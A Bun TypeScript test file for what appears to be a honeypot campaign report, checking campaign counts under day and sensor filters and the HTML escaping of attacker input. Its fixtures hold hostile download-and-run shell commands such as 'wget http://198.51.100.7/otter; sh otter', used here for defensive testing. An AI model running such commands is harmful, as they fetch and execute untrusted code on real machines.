import { describe, expect, test } from "bun:test";
import { countCampaigns } from "../../../lib/campaigns/campaign-counts.ts";
import { findCampaigns } from "../../../lib/campaigns/find-campaigns.ts";
import { toIsoDay } from "../../../lib/text/format.ts";
import { purposeOf } from "../../../lib/text/purpose.ts";
import { techniqueName } from "../../../lib/text/techniques.ts";
import { campaignsTable } from "../../../lib/view/campaigns-markup.ts";
import { toMarkupText } from "../../../lib/view/markup.ts";
import { buildCampaignsData, buildCampaignsView } from "../../../lib/view/report-campaigns.ts";
import { calculateReportData } from "../../../lib/view/report-data.ts";
import { buildScope } from "../../../lib/view/report-view.ts";
import { takeAtOnce } from "../../../lib/process/pause.ts";
import { HOSTILE_TEXTS } from "../../hostile/texts.ts";
import { buildReduced } from "../../support/build.ts";
import { type LogEvent, NOON_MS, readEvents } from "../../support/event-logs.ts";

const DAY = Math.floor(NOON_MS / 86_400_000);
const DAY_S = 86_400;
const PLACES = { where: "logs", scripts: "/s", folders: [] };

/** Some sessions of two campaigns on ten days and two sensors. */
const EVENTS: LogEvent[] = Array.from({ length: 10 }, (_, day) => [
  { eventid: "command.input", at: day * DAY_S, session: `a${day}`, sensor: "s1", input: "wget http://198.51.100.7/otter; sh otter" },
  { eventid: "command.input", at: day * DAY_S + 60, session: `b${day}`, sensor: day % 2 ? "s1" : "s2", input: "lspci | grep VGA" },
]).flat().filter(({ session, at }) => session.startsWith("a") || at < 4 * DAY_S);

async function build(events: readonly LogEvent[], sensors: readonly string[]) {
  using set = await readEvents(events);
  const counts = countCampaigns(await findCampaigns(set), 60);
  const table = buildReduced(
    Array.from({ length: 10 }, (_, day) => sensors.map(sensor => ({ date: toIsoDay(DAY + day), sensor, kind: "connect" as const, key: { src_ip: "192.0.2.1", dst_port: 22 }, count: 1 }))).flat(),
  );
  const data = takeAtOnce(calculateReportData(table, { show: 10 }));
  const campaigns = buildCampaignsData(counts, data.grid, sensors, purposeOf, techniqueName)!;
  const scopeOf = (first: number, last: number, chosen = [1, 1]) =>
    buildScope(data, { range: { first: DAY + first, last: DAY + last }, sensors: Uint8Array.from(sensors, (_, i) => chosen[i]!) }, { thresholdPercent: 0, lastDays: 3 });
  return { campaigns, scopeOf };
}

describe("campaigns under a filter", () => {
  test("sessions, days, sensors and change are those of the days and sensors chosen", async () => {
    const { campaigns, scopeOf } = await build(EVENTS, ["s1", "s2"]);
    const told = (...filter: Parameters<typeof scopeOf>) =>
      buildCampaignsView(scopeOf(...filter), campaigns).rows.map(({ campaign, sessions, first, last, sensorsText }) => [campaign.name, sessions, first - DAY, last - DAY, sensorsText]);
    expect(told(0, 9)).toEqual([["otter", 10, 0, 9, "1/2"], ["lspci | grep VGA", 4, 0, 3, "2/2"]]);
    expect(told(2, 5)).toEqual([["otter", 4, 2, 5, "1/2"], ["lspci | grep VGA", 2, 2, 3, "2/2"]]);
    expect(told(0, 9, [0, 1])).toEqual([["lspci | grep VGA", 2, 0, 2, "1/1"]]);
    expect(buildCampaignsView(scopeOf(5, 9, [0, 1]), campaigns).shown).toBe("No session of a campaign in this selection.");
    expect(buildCampaignsView(scopeOf(0, 9), campaigns).shown).toBe(
      "2 campaigns with 14 sessions; of 14 sessions that left something, 0.0 % share nothing that tells with another.",
    );
  });

  test("the table names all it has, and leads to the scripts", async () => {
    const { campaigns, scopeOf } = await build(EVENTS, ["s1", "s2"]);
    const { rows } = buildCampaignsView(scopeOf(0, 9), campaigns);
    const text = toMarkupText(campaignsTable(rows, { data: campaigns, places: PLACES, hasScript: false }));
    for (const part of ["otter", "198.51.100.7", "T1105 Ingress Tool Transfer", `bun /s/campaigns.ts --campaign ${campaigns.campaigns[0]!.id} logs`, "1 in 1 network"]) {
      expect(text).toContain(part);
    }
    expect(text).not.toContain("<button");
  });

  test("whatever attackers wrote is text", async () => {
    const events = HOSTILE_TEXTS.flatMap((input, i) => [0, 1].map(half => ({ eventid: "command.input", at: i, session: `h${i} ${half}`, sensor: "s1", input: `wget http://bad.test/weasel ${input}` })));
    const { campaigns, scopeOf } = await build(events, ["s1", "s2"]);
    const { rows } = buildCampaignsView(scopeOf(0, 9), campaigns);
    const text = toMarkupText(campaignsTable(rows, { data: campaigns, places: PLACES, hasScript: true }));
    expect(text).toContain("&lt;script");
    expect(text).not.toMatch(/<(?:script|img|svg on|iframe|!--)/);
    expect(text).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
  });
});
